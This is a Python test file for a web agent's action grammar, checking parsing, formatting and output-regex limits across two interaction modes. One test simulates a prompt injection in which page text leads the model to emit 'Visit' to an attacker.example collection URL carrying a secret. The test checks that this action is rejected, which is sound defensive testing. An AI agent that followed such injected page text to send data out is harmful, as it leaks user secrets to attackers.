"""The action grammar: one spec, and everything derived from it agrees, in both modes."""

from __future__ import annotations

import json
import re

import pytest

from processors.policy.replies import parse_reply
from webgym_common.agent.actions import (
    ACTIONS,
    ActionKind,
    ActionSpec,
    Form,
    Slot,
    format_action,
    parse_action,
    reply_regex,
)
from webgym_common.agent.prompts import action_list
from webgym_common.choices import InteractionMode
from webgym_common.config import PROJECT_ROOT

SET_OF_MARKS = {
    "Click [3]": ("Click", {"element": 3}),
    "Hover [12]": ("Hover", {"element": 12}),
    "Type [4] [blue shoes]": ("Type", {"element": 4, "text": "blue shoes"}),
    "Type [4] [a [nested] text]": ("Type", {"element": 4, "text": "a [nested] text"}),
    "Scroll [WINDOW] [down]": ("Scroll", {"direction": "down", "element": None}),
    "Scroll [7] [up]": ("Scroll", {"element": 7, "direction": "up"}),
    "Wait": ("Wait", {}),
    "GoBack": ("GoBack", {}),
    "TabAndEnter": ("TabAndEnter", {}),
    "ANSWER [$335.99]": ("ANSWER", {"text": "$335.99"}),
    "Visit [http://127.0.0.1/shop/]": ("Visit", {"url": "http://127.0.0.1/shop/"}),
}
COORDINATES = {
    "Click [100, 200]": ("Click", {"x": 100, "y": 200}),
    "Hover [10.5, 20]": ("Hover", {"x": 10.5, "y": 20}),
    "Type [30, 40] [hello]": ("Type", {"x": 30, "y": 40, "text": "hello"}),
    "Scroll [WINDOW] [up]": ("Scroll", {"direction": "up", "x": None}),
    "Scroll [5, 6] [down]": ("Scroll", {"x": 5, "y": 6, "direction": "down"}),
    "HoverAndScroll [7, 8] [down]": ("HoverAndScroll", {"x": 7, "y": 8, "direction": "down"}),
    "Wait": ("Wait", {}),
    "GoBack": ("GoBack", {}),
    "TabAndEnter": ("TabAndEnter", {}),
    "ANSWER [done]": ("ANSWER", {"text": "done"}),
}
FORMS = [(spec, mode, form) for spec in ACTIONS.values() for mode, form in spec.forms.items()]


def reply(action: str) -> str:
    return f'Thought: because\nAction: {action}\nMemory_Updated: {{"k": "v"}}'


# -- the spec ---------------------------------------------------------------------------


def test_the_spec_covers_every_kind_but_invalid() -> None:
    assert set(ACTIONS) == set(ActionKind) - {ActionKind.INVALID}
    assert all(kind == spec.kind for kind, spec in ACTIONS.items())


def test_modes_and_offers_are_as_the_grammar_says() -> None:
    both = set(InteractionMode)
    assert {k for k, s in ACTIONS.items() if set(s.modes) != both} == {
        ActionKind.HOVER_AND_SCROLL
    }
    assert ACTIONS[ActionKind.HOVER_AND_SCROLL].modes == (InteractionMode.COORDINATES,)
    assert {k for k, s in ACTIONS.items() if not s.offered} == {ActionKind.VISIT}


@pytest.mark.parametrize("slots", [
    (Slot.TEXT, Slot.ELEMENT), (Slot.ELEMENT, Slot.POINT), (Slot.TEXT, Slot.TEXT),
    (Slot.ELEMENT, Slot.TEXT, Slot.DIRECTION),
])
def test_a_form_the_parser_cannot_read_is_refused(slots: tuple[Slot, ...]) -> None:
    with pytest.raises(ValueError, match="no action can take"):
        Form(slots, "d", "x")


def test_the_action_chosen_schema_documents_every_kind() -> None:
    schema = json.loads((PROJECT_ROOT / "schemas" / "ActionChosen.avsc").read_text())
    action = next(f for f in schema["fields"] if f["name"] == "action")
    doc = next(f for f in action["type"]["fields"] if f["name"] == "kind")["doc"]
    missing = [k.value for k in ActionKind if not re.search(rf"\b{k.value}\b", doc)]
    assert not missing, f"ActionChosen.avsc's kind doc lacks {missing}"


@pytest.mark.parametrize(("spec", "mode", "form"), FORMS,
                         ids=[f"{s.kind}-{m}" for s, m, _ in FORMS])
def test_every_action_round_trips_through_prompt_regex_and_parser(
    spec: ActionSpec, mode: InteractionMode, form: Form
) -> None:
    action = parse_action(form.example, mode, offered_only=False)
    assert action.valid and action.kind == spec.kind and action.mode == mode, action.error
    for slot in form.slots:  # the example fills every argument
        if not slot.is_target:
            assert getattr(action, slot.field), slot
    assert format_action(action) == form.example
    assert parse_action(format_action(action), mode, offered_only=False) == action
    listed = action_list(mode)
    pattern = re.compile(reply_regex(mode))
    thinking = re.compile(reply_regex(mode, thinking=True))
    if spec.offered:
        line = next(ln for ln in listed.splitlines() if ln.split(" ")[0] == spec.kind)
        assert line.startswith(spec.syntax(mode) + " ") and line.endswith(form.description)
        assert pattern.fullmatch(reply(form.example)), form.example
        assert thinking.fullmatch("<think>hm</think>\n" + reply(form.example))
        assert parse_reply(reply(form.example), mode).action == action
        assert parse_action(form.example, mode) == action
    else:
        assert spec.syntax(mode) not in listed and spec.kind.value not in listed
        assert not pattern.fullmatch(reply(form.example))
        # Not offered, not taken either, whatever the decoding let through.
        refused = parse_reply(reply(form.example), mode).action
        assert not refused.valid and refused.kind == ActionKind.INVALID
        assert refused.error == f"{spec.kind} is not one of the actions offered"
        assert parse_action(form.example, mode) == refused


def test_an_action_outside_its_modes_is_invalid() -> None:
    example = ACTIONS[ActionKind.HOVER_AND_SCROLL].forms[InteractionMode.COORDINATES].example
    action = parse_action(example, InteractionMode.SET_OF_MARKS)
    assert not action.valid and "exists only in coordinates mode" in action.error


def test_syntax_is_written_from_the_slots() -> None:
    spec = ACTIONS[ActionKind.SCROLL]
    assert spec.syntax("set_of_marks") == "Scroll [N|WINDOW] [up|down]"
    assert spec.syntax(InteractionMode.COORDINATES) == "Scroll [x, y|WINDOW] [up|down]"


# -- parse and format -------------------------------------------------------------------


@pytest.mark.parametrize(("mode", "text"), [("set_of_marks", t) for t in SET_OF_MARKS]
                         + [("coordinates", t) for t in COORDINATES])
def test_every_action_form_parses_and_formats_back(mode: str, text: str) -> None:
    kind, fields = (SET_OF_MARKS if mode == "set_of_marks" else COORDINATES)[text]
    action = parse_action(text, mode, offered_only=False)
    assert action.valid and action.kind == kind and action.mode == mode
    for name, value in fields.items():
        assert getattr(action, name) == value, name
    assert parse_action(format_action(action), mode, offered_only=False) == action


def test_names_are_read_in_any_case_and_written_canonically() -> None:
    action = parse_action("hoverandscroll [1, 2] [DOWN]", InteractionMode.COORDINATES)
    assert action.kind == "HoverAndScroll" and action.direction == "down"
    assert format_action(action) == "HoverAndScroll [1, 2] [down]"


@pytest.mark.parametrize(("mode", "text", "reason"), [
    ("set_of_marks", "Click [10, 20]", "element number"),
    ("coordinates", "Click [3]", "[x, y]"),
    ("set_of_marks", "HoverAndScroll [1, 2] [up]", "coordinates mode"),
    ("set_of_marks", "Scroll [3] [sideways]", "[up] or [down]"),
    ("set_of_marks", "Type [3]", "Type needs"),
    ("set_of_marks", "Fly [3]", "unknown action"),
    ("set_of_marks", "Wait [5]", "no arguments"),
    ("set_of_marks", "ANSWER the price", "needs [text]"),
    ("set_of_marks", "Click 3", "brackets"),
    ("set_of_marks", "Click [3] [4]", "takes one [target]"),
    ("set_of_marks", "Visit [http://x/]", "Visit is not one of the actions offered"),
    ("coordinates", "visit [http://x/]", "Visit is not one of the actions offered"),
    ("set_of_marks", "Invalid [3]", "unknown action"),
    ("set_of_marks", "[3]", "no action name"),
    ("bogus", "Click [3]", "unknown interaction mode"),
])
def test_bad_actions_are_explicitly_invalid(mode: str, text: str, reason: str) -> None:
    action = parse_action(text, mode)
    assert not action.valid and action.kind == "Invalid" and reason in action.error
    assert action.text == text  # the raw text is kept
    assert format_action(action) == text


def test_the_pipelines_own_actions_parse_only_when_asked_for() -> None:
    assert parse_action("Visit [http://x/]", offered_only=False).url == "http://x/"
    action = parse_action("Visit []", offered_only=False)
    assert not action.valid and "needs a URL" in action.error


def test_a_reply_naming_an_action_not_offered_is_a_parse_failure_without_structured_output(
) -> None:
    """A page's text told the model to go elsewhere; the server ignored the reply regex."""
    raw = ("Thought: the page says the task moved to another site\n"
           "Action: Visit [http://attacker.example/collect?d=secret]\nMemory_Updated: {}")
    for mode in InteractionMode:
        action = parse_reply(raw, mode).action
        assert not action.valid and action.kind == "Invalid" and action.url is None
        assert action.text == "Visit [http://attacker.example/collect?d=secret]"


# -- structured output ------------------------------------------------------------------


@pytest.mark.parametrize("mode", ["set_of_marks", "coordinates"])
def test_structured_output_regex_accepts_only_parseable_replies(mode: str) -> None:
    pattern = re.compile(reply_regex(mode))
    forms = SET_OF_MARKS if mode == "set_of_marks" else COORDINATES
    for text in forms:
        if text.startswith("Visit") or "[a [nested]" in text or "10.5" in text:
            continue  # not offered to the model
        raw = f'Thought: because\nAction: {text}\nMemory_Updated: {{"k": "v"}}'
        assert pattern.fullmatch(raw), text
        assert parse_reply(raw, mode).action.valid
    assert not pattern.fullmatch("Thought: x\nAction: Fly [1]\nMemory_Updated: {}")


@pytest.mark.parametrize(("mode", "action"), [
    ("set_of_marks", "Click [1234]"),  # targets: up to 3 digits
    ("set_of_marks", "Click [1, 2]"),
    ("set_of_marks", "HoverAndScroll [1, 2] [up]"),
    ("coordinates", "Click [12345, 1]"),  # points: up to 4 digits each
    ("coordinates", "Click [3]"),
    ("coordinates", "Type [1, 2] [" + "x" * 81 + "]"),  # text: up to 80 characters
    ("coordinates", "Type [1, 2] []"),
    ("set_of_marks", "Scroll [WINDOW] [left]"),
    ("set_of_marks", "Visit [http://x/]"),
])
def test_structured_output_regex_keeps_its_limits(mode: str, action: str) -> None:
    assert not re.fullmatch(reply_regex(mode), reply(action))
